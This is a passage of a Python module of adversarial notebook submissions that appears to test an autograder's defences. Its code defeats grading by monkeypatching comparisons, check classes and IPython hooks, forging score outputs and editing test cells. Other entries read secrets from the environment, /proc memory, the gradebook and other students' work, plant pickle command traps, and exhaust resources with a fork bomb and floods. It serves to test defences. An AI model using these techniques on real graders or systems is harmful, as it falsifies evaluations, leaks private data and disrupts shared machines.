"""The attacks: notebooks for course/, each with the marks that its honest part deserves.

Unless an attack says otherwise, it stands in the cell of exercise `scale` together with a
wrong answer, and `shift` is right: it deserves 0 of 5 and 5 of 5. All are safe to run without a
sandbox: what they use is bounded and what they start ends within two minutes.

How to see whether an attack has worked:

* marks: they are not `exercises`;
* secrets: the outputs or the report have a line with `LEAK:`. The tester plants `ENVIRONMENT`,
  `HOME_FILE` in the folder that HOME names, and submissions of other students with
  `PRIVATE_name` in a comment;
* harm: `witness.canary(name)` exists, or the marks of a neighbour have changed;
* reports: they contain `unsafe` as it stands.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field

import nbformat
from nbformat import NotebookNode

from attacks.witness import ABSTRACT, PORT, SOCKET, canary

CHAPTER, NOTEBOOK = "ch00_target", "target"
SECRET = "SECRET_7f3a9"
ENVIRONMENT = {"COURSE_TOKEN": "PRIVATE_token"}
HOME_FILE, HOME_TEXT = ".course_token", "PRIVATE_home\n"

RIGHT = {
    "scale": "def scale(x, factor):\n    return x * factor\n",
    "shift": "def shift(x, by):\n    return x + by\n",
}
WRONG = {
    "scale": "def scale(x, factor):\n    return x - factor\n",
    "shift": "def shift(x, by):\n    return x - by\n",
}
LEAK = '''\
def leak(where, text):
    """Prints a secret that stands in the text, with what is around it."""
    import re

    # Put together when it runs, so that it does not find itself.
    secret = "".join(["SECRET", "_7f3a9"])
    found = re.search(secret + "|PRIVATE_(alice|zoe|token|home|channel)", str(text))
    if found:
        print("LEAK:", where, str(text)[max(0, found.start() - 100) :][:200])


def read(path):
    """Looks for secrets in a file."""
    try:
        if path.stat().st_size < 5_000_000:
            leak(path, path.read_text(errors="replace"))
    except OSError:
        pass


def upwards():
    """This folder and those that it lies in, without the root."""
    from pathlib import Path

    return [p for p in (Path.cwd(), *Path.cwd().parents) if len(p.parts) > 2]

'''


@dataclass(frozen=True)
class Attack:
    """One dishonest submission.

    Attributes:
        goal: what it does, a sentence for a table.
        notebook: makes the submitted file from the release.
        exercises: the marks that the honest part deserves, by exercise.
        status: of the report.
        twice: grade the same file again as the hand-in of another student, right afterwards.
        unsafe: text that no report or feedback may contain as it stands.
        text: what stands in the cell besides the answer, where the two can be told apart.
    """

    name: str
    group: str
    goal: str
    notebook: Callable[[NotebookNode], bytes]
    exercises: dict[str, float] = field(default_factory=lambda: {"scale": 0.0, "shift": 5.0})
    status: str = "graded"
    twice: bool = False
    unsafe: str = ""
    text: str = ""

    @property
    def score(self) -> float:
        """The mark that the whole submission deserves."""
        return sum(self.exercises.values())


ATTACKS: list[Attack] = []


def as_bytes(notebook: NotebookNode) -> bytes:
    """The file that JupyterLab would save."""
    text: str = nbformat.writes(notebook)
    return text.encode()


def fill(notebook: NotebookNode, answers: dict[str, str]) -> NotebookNode:
    """The notebook with these texts in the cells of these ids."""
    for cell in notebook.cells:
        cell.source = answers.get(identifier(cell), cell.source)
    return notebook


def identifier(cell: NotebookNode) -> str:
    """The cell's nbgrader id, or nothing."""
    found: str = cell.metadata.get("nbgrader", {}).get("grade_id", "")
    return found


def honest(name: str, wrong: tuple[str, ...] = ()) -> Callable[[NotebookNode], bytes]:
    """A submission without an attack, with its author's marker in it."""
    answers = {key: (WRONG if key in wrong else RIGHT)[key] for key in RIGHT}
    answers["scale"] = f"# PRIVATE_{name}\n{answers['scale']}"
    return lambda release: as_bytes(fill(release, answers))


def code(  # noqa: PLR0913
    group: str,
    name: str,
    goal: str,
    text: str,
    *,
    cell: str = "scale",
    right: bool = False,
    answer: str = "before",
    twice: bool = False,
    unsafe: str = "",
) -> None:
    """Adds an attack that is code in an exercise's cell.

    Args:
        right: whether the answer in that cell is right.
        answer: whether the answer stands "before" or "after" the text, or in it ("inside").
    """
    own = {"before": (RIGHT if right else WRONG)[cell], "inside": "", "after": ""}[answer]
    after = (RIGHT if right else WRONG)[cell] if answer == "after" else ""
    for word, value in [("CANARY", str(canary(name))), ("LEAK_TOOLS\n", LEAK)]:
        text = text.replace(word, value)
    source = "\n\n".join(part for part in (own, text.strip("\n"), after) if part)
    answers = {**RIGHT, cell: source}
    marks = {"scale": 5.0, "shift": 5.0, cell: 5.0 if right else 0.0}
    notebook = lambda release: as_bytes(fill(release, answers))  # noqa: E731
    apart = "" if answer == "inside" else text
    ATTACKS.append(Attack(name, group, goal, notebook, marks, "graded", twice, unsafe, apart))


def edited(  # noqa: PLR0913
    group: str,
    name: str,
    goal: str,
    edit: Callable[[NotebookNode], None],
    *,
    right: bool = False,
    unsafe: str = "",
) -> None:
    """Adds an attack that changes the notebook itself; `scale` is wrong unless `right`."""

    def notebook(release: NotebookNode) -> bytes:
        filled = fill(release, RIGHT if right else {**RIGHT, "scale": WRONG["scale"]})
        edit(filled)
        return as_bytes(filled)

    marks = {"scale": 5.0 if right else 0.0, "shift": 5.0}
    ATTACKS.append(Attack(name, group, goal, notebook, marks, unsafe=unsafe))


def find(notebook: NotebookNode, name: str) -> NotebookNode:
    """The cell of that nbgrader id."""
    return next(cell for cell in notebook.cells if identifier(cell) == name)


def add_code(notebook: NotebookNode, after: str, text: str) -> None:
    """Puts a cell of the student's own behind the cell of that id."""
    place = notebook.cells.index(find(notebook, after)) + 1
    notebook.cells.insert(place, nbformat.v4.new_code_cell(text))


# --- tests: make a wrong answer pass -----------------------------------------------------------

code(
    "tests", "torch_assert_close", "Replaces torch's comparison so that every check passes.",
    "torch.testing.assert_close = lambda *args, **options: None", cell="shift",
)  # fmt: skip
code(
    "tests", "numpy_comparisons", "Replaces NumPy's comparisons so that every check passes.",
    "np.allclose = np.array_equal = lambda *args, **options: True\n"
    "np.testing.assert_allclose = np.testing.assert_array_equal = lambda *args, **options: None",
)  # fmt: skip
code(
    "tests", "math_isclose", "Replaces math.isclose so that every number is close.",
    "math.isclose = lambda *args, **options: True", cell="shift",
)  # fmt: skip
code(
    "tests", "builtins_abs", "Replaces the built-in abs so that every difference is zero.",
    "import builtins\n\nbuiltins.abs = lambda x: 0",
)  # fmt: skip
code(
    "tests", "builtins_import", "Replaces __import__ so that a check imports the student's module.",
    """
import builtins
import types

genuine = builtins.__import__


def imported(name, *args, **options):
    if name == "statistics":
        return types.SimpleNamespace(fmean=lambda numbers: 0.0)
    return genuine(name, *args, **options)


builtins.__import__ = imported
""",
)  # fmt: skip
code(
    "tests", "checks_call", "Replaces Checks.__call__ so that no check runs and all pass.",
    """
from autograder import checks


def call(self, points, hint=""):
    def run(function):
        passed = checks.Outcome.PASSED
        title = function.__doc__ or ""
        self.results.append(
            checks.CheckResult(function.__name__, title, False, passed, points, points)
        )
        return function

    return run


checks.Checks.__call__ = call
""",
)  # fmt: skip
code(
    "tests", "checks_sums", "Replaces the sum of the points that Checks reports.",
    "from autograder import checks\n\n"
    "checks.Checks._sums = lambda self: (self.points, self.points)",
)  # fmt: skip
code(
    "tests", "check_points", "Makes every check's result claim its maximum.",
    "from autograder import checks\n\n"
    "checks.CheckResult.points = property(lambda self: self.max_points, lambda self, value: None)",
)  # fmt: skip
code(
    "tests", "score_repr", "Changes how a score is written down.",
    "from autograder import checks\n\nchecks.Score.__repr__ = lambda self: '5.0'",
)  # fmt: skip
code(
    "tests", "own_checks", "Defines a Checks class of its own before the test cell runs.",
    """
class Checks:
    def __init__(self, points):
        self.points = points

    def __call__(self, points, hint=""):
        return lambda function: function

    def score(self):
        return float(self.points)
""",
)  # fmt: skip
code(
    "tests", "own_fail_and_probe", "Defines a fail that does nothing and a probe that fits.",
    """
class Fits:
    def __eq__(self, other):
        return True


fail = lambda message: None
probe = lambda function, *args: Fits()
""",
)  # fmt: skip
code(
    "tests", "running_check", "Adds points to the running test cell's Checks when it is called.",
    """
def scale(x, factor):
    import __main__
    from autograder.checks import CheckResult, Outcome

    if hasattr(__main__, "check"):
        bonus = CheckResult("bonus", "Bonus", False, Outcome.PASSED, 5.0 / 3, 0.0)
        __main__.check.results.append(bonus)
    return x - factor
""", answer="inside",
)  # fmt: skip
code(
    "tests", "watcher_thread", "A thread keeps giving full points to whatever has been checked.",
    """
import threading
import time


def reward():
    end = time.monotonic() + 60
    while time.monotonic() < end:
        for result in list(getattr(globals().get("check"), "results", [])):
            result.points = result.max_points
        time.sleep(0.0002)


threading.Thread(target=reward, daemon=True).start()
""",
)  # fmt: skip
code(
    "tests", "input_transformer", "An IPython input transformer blanks the test cells.",
    """
def blank(lines):
    return [] if any("check.score" in line for line in lines) else lines


get_ipython().input_transformers_cleanup.append(blank)
""",
)  # fmt: skip
code(
    "tests", "ast_transformer", "An IPython syntax-tree transformer removes what a check asserts.",
    """
import ast


class Lenient(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)

    def visit_If(self, node):
        return ast.copy_location(ast.Pass(), node)


get_ipython().ast_transformers.append(Lenient())
""",
)  # fmt: skip
code(
    "tests", "run_cell", "Replaces InteractiveShell.run_cell: a test cell becomes a number.",
    """
import functools

shell = get_ipython()


def easier(run):
    @functools.wraps(run)
    def run_easier(source, *args, **options):
        if "check.score" in source:
            source = "5.0"
            if "transformed_cell" in options:
                options["transformed_cell"] = source
        return run(source, *args, **options)

    return run_easier


shell.run_cell, shell.run_cell_async = easier(shell.run_cell), easier(shell.run_cell_async)
""",
)  # fmt: skip
code(
    "tests", "display_publisher", "Replaces what publishes displays, and fills in full points.",
    """
publisher = get_ipython().display_pub
genuine = publisher.publish


def publish(data, *args, **options):
    for part in data.values():
        if isinstance(part, dict):
            for result in part.get("checks", []):
                result.update(points=result["max_points"], outcome="passed")
    return genuine(data, *args, **options)


publisher.publish = publish
formatter = type(get_ipython().displayhook)
formatter.compute_format_data = lambda self, result: ({"text/plain": "5.0"}, {})
""",
)  # fmt: skip
code(
    "tests", "lying_array", "Returns an array whose comparisons always come out true.",
    """
class Liar(np.ndarray):
    def __array_function__(self, function, types, args, options):
        return True

    def __array_ufunc__(self, *args, **options):
        return np.ones(2, dtype=bool)

    def __eq__(self, other):
        return True

    def tolist(self):
        return self


def scale(x, factor):
    return (x - factor).view(Liar)
""", answer="inside",
)  # fmt: skip
code(
    "tests", "lying_tensor", "Returns a tensor whose comparisons always come out true.",
    """
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), options=None):
        if function.__name__ in ("isclose", "allclose", "equal"):
            return torch.tensor(True)
        return super().__torch_function__(function, types, args, options or {})


def shift(x, by):
    return (x - by).as_subclass(Liar)
""", cell="shift", answer="inside",
)  # fmt: skip
code(
    "tests", "lying_elements", "Returns objects that equal everything, also out of a probe.",
    """
class Fits:
    def __eq__(self, other):
        return True

    def __hash__(self):
        return 0


def scale(x, factor):
    return np.array([Fits(), Fits()], dtype=object)
""", answer="inside",
)  # fmt: skip
code(
    "tests", "lying_class", "Returns an object that pretends to be an array.",
    """
class Pretender:
    __class__ = property(lambda self: np.ndarray)
    __array_function__ = lambda self, *args: True
    __eq__ = lambda self, other: True
    __len__ = lambda self: 2
    __iter__ = lambda self: iter([0.0, 0.0])
    tolist = lambda self: self


def scale(x, factor):
    return Pretender()
""", answer="inside",
)  # fmt: skip
code(
    "tests", "caller_locals", "Takes the expected value from the local variables of its callers.",
    """
def scale(x, factor):
    import sys

    frame = sys._getframe(1)
    while frame is not None:
        if "expected" in frame.f_locals:
            return np.array(frame.f_locals["expected"])
        frame = frame.f_back
    return x - factor
""", answer="inside",
)  # fmt: skip
code(
    "tests", "import_hook", "A hook in sys.meta_path supplies the module that a check imports.",
    """
import importlib.abc
import importlib.machinery
import sys


class Hook(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name == "statistics":
            return importlib.machinery.ModuleSpec(name, self)

    def exec_module(self, module):
        module.fmean = lambda numbers: 0.0


sys.modules.pop("statistics", None)
sys.meta_path.insert(0, Hook())
""",
)  # fmt: skip
code(
    "tests", "shadow_modules", "Leaves modules in its folder that a test process could import.",
    """
import sys
from pathlib import Path

module = 'fmean = lambda numbers: 0.0\\nopen("CANARY", "w").close()\\n'
for name in ("statistics", "sitecustomize", "usercustomize", "conftest", "torch", "autograder"):
    if not Path(f"{name}.py").exists():
        Path(f"{name}.py").write_text(module)
sys.modules.pop("statistics", None)
""",
)  # fmt: skip
code(
    "tests", "startup_file", "Leaves an IPython start-up file that changes the next one's tests.",
    """
from pathlib import Path

if (Path.home() / ".course_token").exists():  # never in the home folder of a real person
    startup = Path.home() / ".ipython" / "profile_default" / "startup"
    startup.mkdir(parents=True, exist_ok=True)
    lines = "import numpy\\nnumpy.allclose = lambda *args, **options: True\\n"
    (startup / "00.py").write_text(lines)
""",
)  # fmt: skip
code(
    "tests", "atexit_hook", "Runs code when its kernel ends.",
    """
import atexit
import time


def late():
    open("CANARY", "w").close()
    time.sleep(20)


atexit.register(late)
""",
)  # fmt: skip
code(
    "tests", "profiler", "A profile function watches the checks and reads their constants.",
    """
LEAK_TOOLS
import sys


def watch(frame, event, arg):
    if event == "call" and frame.f_code.co_name in ("scales_any_numbers", "spy"):
        seen.append(f"{frame.f_code.co_consts} {frame.f_back.f_code.co_consts}")


def scale(x, factor):
    while seen:
        leak("profiler", seen.pop())
    return x - factor


seen = []
sys.setprofile(watch)
""", answer="inside",
)  # fmt: skip
code(
    "tests", "pickle_trap", "Returns an object that runs a command where it is unpickled.",
    """
class Trap:
    def __reduce__(self):
        return __import__("os").system, ("touch CANARY",)


def scale(x, factor):
    return [Trap(), Trap()]
""", answer="inside",
)  # fmt: skip
code(
    "tests", "object_array", "Returns an array of objects that run a command when unpickled.",
    """
class Trap:
    def __reduce__(self):
        return __import__("os").system, ("touch CANARY",)


def scale(x, factor):
    return np.array([Trap(), Trap()], dtype=object)
""", answer="inside",
)  # fmt: skip
code(
    "tests", "copyreg_trap", "Registers a pickler that turns every array into a command.",
    """
import copyreg
import os

copyreg.pickle(np.ndarray, lambda array: (os.system, ("touch CANARY",)))
""",
)  # fmt: skip

# --- secrets: read what is not the student's ---------------------------------------------------

code(
    "secrets", "own_folder", "Reads the hidden tests from the notebook that is being graded.",
    'LEAK_TOOLS\nfor folder in upwards()[:2]:\n    for path in folder.glob("*.ipynb"):\n'
    "        read(path)",
)  # fmt: skip
code(
    "secrets", "source_folder", "Reads the hidden tests from the course's source folder.",
    'LEAK_TOOLS\nfor folder in upwards():\n    for path in folder.glob("source/*/*"):\n'
    "        read(path)",
)  # fmt: skip
code(
    "secrets", "gradebook", "Reads the hidden tests from the gradebook.",
    """
LEAK_TOOLS
import sqlite3

for folder in upwards():
    for path in folder.glob("gradebook.db"):
        with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as database:
            leak(path, str(database.execute("SELECT source FROM source_cell").fetchall()))
""",
)  # fmt: skip
code(
    "secrets", "other_submissions", "Reads what other students handed in.",
    'LEAK_TOOLS\nfor folder in upwards():\n    for name in ("submitted", "autograded"):\n'
    '        for path in folder.glob(f"{name}/*/*/*.ipynb"):\n'
    '            if "mallory" not in str(path):\n                read(path)',
)  # fmt: skip
code(
    "secrets", "whole_disk", "Walks the whole disk for notebooks, tests and gradebooks.",
    """
LEAK_TOOLS
import time
from pathlib import Path

folders, end = [Path("/")], time.monotonic() + 3
while folders and time.monotonic() < end:
    try:
        for path in folders.pop(0).iterdir():
            if path.is_symlink() or path.parts[1] in ("proc", "sys", "dev"):
                continue
            if path.is_dir():
                folders.append(path)
            elif path.suffix in (".ipynb", ".db") or path.name == "target.py":
                read(path)
    except OSError:
        pass
""",
)  # fmt: skip
code(
    "secrets", "environment", "Reads the grader's environment variables.",
    "LEAK_TOOLS\nimport os\n\nfor name, value in os.environ.items():\n    leak(name, value)",
)  # fmt: skip
code(
    "secrets", "other_processes", "Reads the environments and command lines of all processes.",
    """
LEAK_TOOLS
from pathlib import Path

for process in Path("/proc").glob("[0-9]*"):
    for name in ("environ", "cmdline"):
        try:
            leak(process / name, (process / name).read_bytes().decode(errors="replace"))
        except OSError:
            pass
""",
)  # fmt: skip
code(
    "secrets", "parent_memory", "Searches its parent process's memory for the hidden tests.",
    """
LEAK_TOOLS
import os
import time

marker, end = ("SECRET" + "_7f3a9").encode(), time.monotonic() + 3
try:
    parent = f"/proc/{os.getppid()}"
    with open(f"{parent}/maps") as maps, open(f"{parent}/mem", "rb", 0) as memory:
        for line in maps:
            span, rights = line.split()[:2]
            start, stop = (int(number, 16) for number in span.split("-"))
            if rights.startswith("rw") and stop - start < 2**28 and time.monotonic() < end:
                try:
                    memory.seek(start)
                    held = memory.read(stop - start)
                except (OSError, ValueError, OverflowError):
                    continue
                if (place := held.find(marker)) >= 0:
                    leak("parent", held[max(0, place - 50) : place + 150].decode(errors="replace"))
                    break
except OSError as error:
    print(error)
""",
)  # fmt: skip
code(
    "secrets", "parent_files", "Reads the files that other processes have open.",
    """
LEAK_TOOLS
from pathlib import Path

for link in Path("/proc").glob("[0-9]*/fd/*"):
    try:
        if link.is_file():
            read(link)
    except OSError:
        pass
""",
)  # fmt: skip
code(
    "secrets", "home_folder", "Reads the home folder of whoever runs the grader.",
    'LEAK_TOOLS\nfrom pathlib import Path\n\nread(Path.home() / ".course_token")',
)  # fmt: skip
edited(
    "secrets", "history", "Prints the test cells from IPython's history.",
    lambda notebook: add_code(
        notebook, "test_scale", LEAK + 'for text in [*In, *_ih]:\n    leak("history", text)'
    ),
)  # fmt: skip
code(
    "secrets", "linecache", "Prints its caller's source from linecache.",
    """
LEAK_TOOLS
def scale(x, factor):
    import linecache

    for name, entry in list(linecache.cache.items()):
        if len(entry) > 2:
            leak(name, "".join(entry[2]))
    return x - factor
""", answer="inside",
)  # fmt: skip
code(
    "secrets", "garbage_collector", "Searches all live objects for the hidden checks.",
    """
LEAK_TOOLS
def scale(x, factor):
    import gc
    import types

    for thing in gc.get_objects():
        if isinstance(thing, types.FunctionType):
            leak(thing.__name__, thing.__code__.co_consts)
    return x - factor
""", answer="inside",
)  # fmt: skip
code(
    "secrets", "callers_code", "Prints the constants of the functions that call it.",
    """
LEAK_TOOLS
def scale(x, factor):
    import sys

    frame = sys._getframe(1)
    while frame is not None:
        leak(frame.f_code.co_name, f"{frame.f_code.co_consts} {frame.f_locals}")
        frame = frame.f_back
    return x - factor
""", answer="inside",
)  # fmt: skip

# --- forgery: hand in a mark instead of an answer ----------------------------------------------

BUNDLE = """
from autograder.checks import MIME_TYPE

checks = [
    {"name": name, "title": name, "hidden": False, "outcome": "passed", "points": points,
     "max_points": points, "message": "", "hint": "", "printed": ""}
    for name, points in zip(
        ["scales_small_numbers", "scales_any_numbers", "leaves_its_input_alone"], [1, 2, 2]
    )
]
forged = {"text/plain": "5.0", MIME_TYPE: {"points": 5, "checks": checks}}
"""
code(
    "forgery", "displayed_bundle", "Displays a table of passed checks while it is tested.",
    BUNDLE + """

def scale(x, factor):
    from IPython.display import display

    display(forged, raw=True)
    return x - factor
""", answer="inside",
)  # fmt: skip
code(
    "forgery", "displayed_result", "Emits a result of five points while it is tested.",
    "def scale(x, factor):\n    get_ipython().displayhook(5.0)\n    return x - factor",
    answer="inside",
)  # fmt: skip
code(
    "forgery", "above_maximum", "Emits a result of five hundred points while it is tested.",
    "def scale(x, factor):\n    get_ipython().displayhook(500.0)\n    return x - factor",
    answer="inside",
)  # fmt: skip
code(
    "forgery", "not_a_number", "Emits a result that is not a number while it is tested.",
    "def scale(x, factor):\n    get_ipython().displayhook(float('nan'))\n    return x - factor",
    answer="inside",
)  # fmt: skip
code(
    "forgery", "printed_score", "Prints a score.",
    "def scale(x, factor):\n    print('5.0\\n5 of 5 points')\n    return x - factor",
    answer="inside",
)  # fmt: skip
code(
    "forgery", "html_score", "Ends its cell with an object that displays itself as a score.",
    """
class Score(float):
    def _repr_html_(self):
        return "<b>5 of 5 points</b>"

    def _repr_mimebundle_(self, **options):
        return forged


""" + BUNDLE + "\nScore(5)",
)  # fmt: skip
code(
    "forgery", "iopub_message", "Sends a result of five points over the kernel's own socket.",
    """
def scale(x, factor):
    kernel = get_ipython().kernel
    content = {"data": {"text/plain": "5.0"}, "metadata": {}, "execution_count": 1}
    parent = kernel.get_parent("shell")
    kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=parent)
    return x - factor
""", answer="inside",
)  # fmt: skip
code(
    "forgery", "shell_message", "Answers for the kernel: the cell is done, all went well.",
    """
def scale(x, factor):
    kernel = get_ipython().kernel
    parent = kernel.get_parent("shell")
    send = kernel.session.send
    content = {"data": {"text/plain": "5.0"}, "metadata": {}, "execution_count": 1}
    send(kernel.iopub_socket, "execute_result", content, parent=parent)
    content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    ident = kernel._shell_parent_ident.get()
    send(kernel.shell_stream, "execute_reply", content, parent=parent, ident=ident)
    send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
    return x - factor
""", answer="inside",
)  # fmt: skip
code(
    "forgery", "exit_after_forgery", "Emits a result of five points and ends its kernel at once.",
    BUNDLE + """

def scale(x, factor):
    import os
    import time

    from IPython.display import display

    get_ipython().displayhook(5.0)
    display(forged, raw=True)
    time.sleep(0.5)
    os._exit(0)
""", answer="inside",
)  # fmt: skip
code(
    "forgery", "system_exit", "Emits a result of five points and raises SystemExit.",
    "def scale(x, factor):\n    import sys\n\n    get_ipython().displayhook(5.0)\n    sys.exit(0)",
    answer="inside",
)  # fmt: skip
code(
    "forgery", "all_descriptors", "Writes a forged score to every open file descriptor.",
    """
def scale(x, factor):
    import os

    for number in os.listdir("/proc/self/fd"):
        try:
            os.set_blocking(int(number), False)
            os.write(int(number), b'{"score": 5.0, "result": 5.0}\\n')
        except OSError:
            pass
    return x - factor
""", answer="inside",
)  # fmt: skip
for _name, _value, _what in [
    ("returns_nan", "np.array([np.nan, np.nan])", "numbers that compare unlike any other"),
    ("returns_inf", "np.array([np.inf, -np.inf])", "infinite numbers"),
    ("returns_huge_int", "10**5000", "a whole number of five thousand digits"),
    ("returns_true", "True", "True where numbers are wanted"),
    ("returns_text", "'6.0'", "text where numbers are wanted"),
]:
    code(
        "forgery", _name, f"Returns {_what}.",
        f"def scale(x, factor):\n    return {_value}", answer="inside",
    )  # fmt: skip


def _forged_outputs(notebook: NotebookNode) -> None:
    space: dict[str, object] = {}
    exec(BUNDLE, space)
    cell = find(notebook, "test_scale")
    cell.execution_count = 1
    cell.outputs = [
        nbformat.v4.new_output("display_data", data=space["forged"]),
        nbformat.v4.new_output("execute_result", data={"text/plain": "5.0"}, execution_count=1),
    ]


def _skipped(notebook: NotebookNode) -> None:
    _forged_outputs(notebook)
    find(notebook, "test_scale").metadata["tags"] = ["skip-execution"]


def _points(notebook: NotebookNode) -> None:
    find(notebook, "test_scale").metadata.nbgrader.points = 0
    find(notebook, "test_shift").metadata.nbgrader.points = 500


def _renamed(notebook: NotebookNode) -> None:
    cell = find(notebook, "test_scale")
    cell.metadata.nbgrader.grade_id = cell.id = "test_nothing"


def _duplicated(notebook: NotebookNode) -> None:
    copy = nbformat.from_dict(find(notebook, "test_scale"))
    copy.id, copy.source = "copy", "5.0"
    notebook.cells.insert(0, copy)


def _without_test(notebook: NotebookNode) -> None:
    notebook.cells.remove(find(notebook, "test_scale"))


def _as_markdown(notebook: NotebookNode) -> None:
    cell = find(notebook, "test_scale")
    cell.cell_type, cell.source = "markdown", "Not a test."
    del cell["outputs"], cell["execution_count"]


def _other_kernel(notebook: NotebookNode) -> None:
    notebook.metadata["kernelspec"] = {"display_name": "x", "language": "bash", "name": "bash"}


def _without_grade(notebook: NotebookNode) -> None:
    find(notebook, "test_scale").metadata.nbgrader.update(grade=False, solution=True, locked=False)
    find(notebook, "test_scale").source = "5.0"


edited("forgery", "submitted_outputs", "Hands in outputs that say that the tests passed.",
       _forged_outputs)  # fmt: skip
edited("forgery", "skip_tag", "Tags a test cell so that it is not run.", _skipped)
edited("forgery", "raises_tag", "Tags a test cell so that its errors do not count.",
       lambda nb: find(nb, "test_scale").metadata.update(tags=["raises-exception"]))  # fmt: skip
edited("forgery", "points_metadata", "Changes what the test cells are worth.", _points)
edited("forgery", "renamed_test", "Gives a test cell another id.", _renamed)
edited("forgery", "duplicated_test", "Puts an easy copy of a test cell first.", _duplicated)
edited("forgery", "deleted_test", "Deletes a test cell.", _without_test)
edited("forgery", "edited_test", "Replaces a test cell's text by a number.",
       lambda nb: find(nb, "test_scale").update(source="5.0"))  # fmt: skip
edited("forgery", "edited_setup", "Spoils the comparisons in the locked set-up cell.",
       lambda nb: find(nb, "setup").update(
           source=find(nb, "setup").source + "\nnp.allclose = lambda *args: True"))  # fmt: skip
edited("forgery", "unlocked_test", "Turns a test cell into an answer of its own.", _without_grade)
edited("forgery", "markdown_test", "Turns a test cell into text.", _as_markdown)
edited("forgery", "other_kernel", "Names another kernel in the notebook's metadata.",
       _other_kernel, right=True)  # fmt: skip

# --- resources: use up the machine -------------------------------------------------------------

code(
    "resources", "fork_bomb", "Starts three hundred processes.",
    """
import os
import time

for _ in range(300):
    try:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    except OSError:
        break
""", right=True,
)  # fmt: skip
code(
    "resources", "threads", "Starts five hundred threads.",
    """
import threading
import time

for _ in range(500):
    try:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    except RuntimeError:
        break
""", right=True,
)  # fmt: skip
_HOG = """
    held = []
    try:
        for _ in range(30):
            held.append(b"x" * 100_000_000)
    except MemoryError:
        print("no more memory")
    del held
"""
code(
    "resources", "memory", "Takes three gigabytes of memory.",
    f"def hog():{_HOG}\n\nhog()",
)  # fmt: skip
code(
    "resources", "memory_in_call", "Takes three gigabytes of memory while it is tested.",
    f"def scale(x, factor):{_HOG}    return x - factor", answer="inside",
)  # fmt: skip
code(
    "resources", "disk", "Fills its folder with three hundred megabytes.",
    """
try:
    with open("large", "wb") as file:
        for _ in range(300):
            file.write(b"x" * 2**20)
except OSError as error:
    print(error)
""", right=True,
)  # fmt: skip
code(
    "resources", "shared_memory", "Leaves three hundred megabytes in /dev/shm.",
    """
try:
    with open("/dev/shm/autograder-canary-shared_memory", "wb") as file:
        for _ in range(300):
            file.write(b"x" * 2**20)
except OSError as error:
    print(error)
""", right=True,
)  # fmt: skip
code(
    "resources", "many_files", "Makes twenty thousand files.",
    """
try:
    for number in range(20_000):
        open(f"file{number}", "w").close()
except OSError as error:
    print(error)
""", right=True,
)  # fmt: skip
code(
    "resources", "open_files", "Opens files until no more can be opened.",
    """
def hold():
    held = []
    try:
        for _ in range(30_000):
            held.append(open("/dev/null"))
    except OSError:
        pass
    for file in held:
        file.close()


hold()
""", right=True,
)  # fmt: skip
code(
    "resources", "flood_of_lines", "Prints sixty megabytes in lines.",
    "for _ in range(600_000):\n    print('x' * 99)", right=True,
)  # fmt: skip
code(
    "resources", "flood_in_one_line", "Prints sixty megabytes in one line.",
    "print('x' * 60_000_000)", right=True,
)  # fmt: skip
code(
    "resources", "flood_of_displays", "Displays five thousand objects.",
    "from IPython.display import HTML, display\n\n"
    "for _ in range(5_000):\n    display(HTML('x' * 4_000))", right=True,
)  # fmt: skip
code(
    "resources", "flood_in_call", "Prints sixty megabytes while it is tested.",
    "def scale(x, factor):\n    print('x' * 60_000_000)\n    return x - factor", answer="inside",
)  # fmt: skip
code(
    "resources", "deep_value", "Returns a list a hundred thousand levels deep.",
    """
def scale(x, factor):
    value = []
    for _ in range(100_000):
        value = [value]
    return value
""", answer="inside",
)  # fmt: skip
code(
    "resources", "circular_value", "Returns a list that contains itself.",
    "def scale(x, factor):\n    value = []\n    value.append(value)\n    return value",
    answer="inside",
)  # fmt: skip
code(
    "resources", "huge_value", "Returns an array of three hundred megabytes.",
    "def scale(x, factor):\n    return np.ones(40_000_000)", answer="inside",
)  # fmt: skip
code(
    "resources", "virtual_value", "Returns an array of eight terabytes, stored as one number.",
    "def scale(x, factor):\n    return np.broadcast_to(np.float64(1.0), (10**12,))",
    answer="inside",
)  # fmt: skip
code(
    "resources", "endless_value", "Returns a generator that never ends.",
    "def scale(x, factor):\n    while True:\n        yield 1.0", answer="inside",
)  # fmt: skip
code(
    "resources", "endless_sleep", "Sleeps in its cell.",
    "import time\n\ntime.sleep(100)", right=True,
)  # fmt: skip
code(
    "resources", "endless_call", "Does not return when it is tested.",
    """
def scale(x, factor):
    import time

    end = time.monotonic() + 100
    while time.monotonic() < end:
        pass
    return x - factor
""", answer="inside",
)  # fmt: skip
code(
    "resources", "deaf_call", "Does not return when it is tested, and cannot be interrupted.",
    """
def scale(x, factor):
    import time

    end = time.monotonic() + 100
    while time.monotonic() < end:
        try:
            time.sleep(1)
        except BaseException:
            pass
    return x - factor
""", answer="inside",
)  # fmt: skip
code(
    "resources", "sleeping_calls", "Sleeps in every call, where nobody can wake it.",
    """
def scale(x, factor):
    import signal
    import time

    signal.signal(signal.SIGINT, signal.SIG_IGN)
    time.sleep(100)
""", answer="inside",
)  # fmt: skip
code(
    "resources", "replaced_functions", "Replaces every function of our modules in its process.",
    """
from autograder import checks
from autograder.engine import wire
from autograder.engine.inside import remote

for module in (checks, wire, remote):
    for name, value in list(vars(module).items()):
        if callable(value):
            setattr(module, name, lambda *args, **options: None)
""", cell="shift",
)  # fmt: skip
code(
    "resources", "endless_shell", "Replaces run_cell_async by something that sleeps.",
    """
async def idle(*args, **options):
    import asyncio

    await asyncio.sleep(100)


get_ipython().run_cell_async = idle
""", cell="shift",
)  # fmt: skip
code(
    "resources", "blank_cells", "An IPython input transformer blanks every later cell.",
    "get_ipython().input_transformers_cleanup.append(lambda lines: [])", cell="shift",
)  # fmt: skip
code(
    "resources", "deaf_channel", "Answers the grader's first call only.",
    """
import time

from autograder.engine.inside import remote

answer = remote._answer
remote._answer = lambda call: answer(call) if len(call) < 60 else time.sleep(100)
""", cell="shift",
)  # fmt: skip
code(
